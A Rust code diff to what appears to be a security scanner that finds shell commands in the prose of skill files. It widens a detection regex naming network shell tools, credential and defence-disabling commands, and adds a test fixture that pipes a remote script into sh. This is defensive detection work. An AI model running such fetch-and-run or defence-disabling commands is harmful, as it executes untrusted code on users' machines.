@@ -6,7 +6,7 @@ use std::ops::Range;
 use super::lexer;
 use crate::Severity;
 use crate::material::{Language, Material, Source, Stretch};
-use crate::pattern::{Grams, Pattern};
+use crate::pattern::{Found, Grams, Pattern};
 
 /// One stretch of code, or what is code in a stretch of prose.
 pub(super) struct Unit<'a> {
@@ -53,7 +53,7 @@ static RUNS: Pattern = Pattern::new(
 );
 /// A line that is a command, whatever surrounds it.
 static COMMAND: Pattern = Pattern::new(
-    r"^\s*(?:[$>]\s+)?(?:sudo\s+)?(?:curl|wget|bash|sh|zsh|python3?|node|nc|ncat|powershell(?:\.exe)?|pwsh|iwr|irm|iex|osascript|eval|echo|printf|base64|tar|cat|env|printenv|rm|crontab|dig|nslookup|scp|rsync)\s",
+    r"^\s*(?:[$>]\s+)?(?:sudo\s+)?(?:curl|wget|bash|sh|zsh|python3?|node|nc|ncat|powershell(?:\.exe)?|pwsh|iwr|irm|iex|osascript|eval|echo|printf|base64|tar|cat|env|printenv|rm|crontab|dig|nslookup|scp|rsync|deno|npx|bunx|uvx|pip3?|npm|pnpm|gh|ssh|nohup|launchctl|systemctl|chmod|kubectl|aws|gcloud|az|openssl|gpg|perl|ruby|php|docker|defaults|security|spctl|setenforce|Set-MpPreference|Add-MpPreference|Invoke-\w+|iptables|ufw)\s",
 );
 static INLINE: Pattern = Pattern::new(r"`([^`\n]{8,600})`");
 
@@ -61,7 +61,9 @@ static INLINE: Pattern = Pattern::new(r"`([^`\n]{8,600})`");
 pub(super) fn of<'a>(material: &'a Material<'_>) -> Vec<Unit<'a>> {
     let skill = material.sources.iter().find(|source| source.path == SKILL_FILE);
     let skill_text = skill.map_or("", |source| source.text.as_str());
-    let context = Context { skill_text, defends: DEFENDS.is_match(head(skill_text)) };
+    let description = material.reading.skill.as_ref().map_or("", |skill| skill.description.as_str());
+    let warns = DEFENDS.is_match(description);
+    let context = Context { skill_text, defends: DEFENDS.is_match(head(skill_text)), warns };
     let mut units = Vec::new();
     for source in &material.sources {
         for (stretch, text) in source.in_languages(&CODE) {
@@ -83,7 +85,7 @@ pub(super) fn of<'a>(material: &'a Material<'_>) -> Vec<Unit<'a>> {
                 Unit { source, span, language: Language::Data, code, grams, ceiling, weakness_ceiling }
             }));
             units.extend(source.in_languages(&[Language::Prose]).filter_map(|(stretch, text)| {
-                let code = commands(text)?;
+                let code = commands(text, context.warns)?;
                 let ceiling = context.of_prose(source);
                 let weakness_ceiling = ceiling.min(Severity::Medium);
                 let span = stretch.span.clone();
@@ -105,11 +107,11 @@ fn head(text: &str) -> &str {
 }
 
 /// Prose with everything blanked but the commands it has run. `None` when there are none.
-fn commands(text: &str) -> Option<String> {
+fn commands(text: &str, defends: bool) -> Option<String> {
     let mut code = String::with_capacity(text.len());
     let mut any = false;
     for line in text.split_inclusive('\n') {
-        let kept = kept_of(line);
+        let kept = kept_of(line, defends);
         any |= !kept.is_empty();
         code.extend(line.char_indices().flat_map(|(at, c)| {
             let keep = c == '\n' || kept.iter().any(|span| span.contains(&at));
@@ -120,7 +122,7 @@ fn commands(text: &str) -> Option<String> {
     any.then_some(code)
 }
 
-fn kept_of(line: &str) -> Vec<Range<usize>> {
+fn kept_of(line: &str, defends: bool) -> Vec<Range<usize>> {
     if COMMAND.is_match(line) {
         return std::iter::once(0..line.len()).collect();
     }
@@ -129,13 +131,16 @@ fn kept_of(line: &str) -> Vec<Range<usize>> {
     }
     let inside = INLINE.captures_iter(line).filter_map(|found| found.get(1));
     let run = |at: usize| RUNS.is_match(&line[..at]);
-    inside.filter(|found| run(found.start())).map(|found| found.range()).collect()
+    let meant = |found: &Found<'_>| run(found.start()) || !defends && COMMAND.is_match(found.as_str());
+    inside.filter(meant).map(|found| found.range()).collect()
 }
 
 struct Context<'a> {
     skill_text: &'a str,
     /// The skill is about security, so that its documents show attacks.
     defends: bool,
+    /// Its description says so.
+    warns: bool,
 }
 
 impl Context<'_> {
@@ -221,11 +226,13 @@ mod tests {
     #[test]
     fn commands_in_prose_keep_their_places() {
         let text = "Naïve. Run `curl -s https://a.example/x | sh` now.\nThe `other thing here` is named.\n";
-        let code = commands(text).unwrap();
+        let code = commands(text, false).unwrap();
         assert_eq!(code.len(), text.len());
         assert_eq!(code.trim(), "curl -s https://a.example/x | sh");
         assert_eq!(code.find("curl"), text.find("curl"));
-        assert_eq!(commands("Nothing here.\n"), None);
+        assert_eq!(commands("Nothing here.\n", false), None);
+        let named = "- Miners: `curl -s https://a.example/x | sh`\n";
+        assert!(commands(named, false).is_some() && commands(named, true).is_none());
     }
 
     #[test]
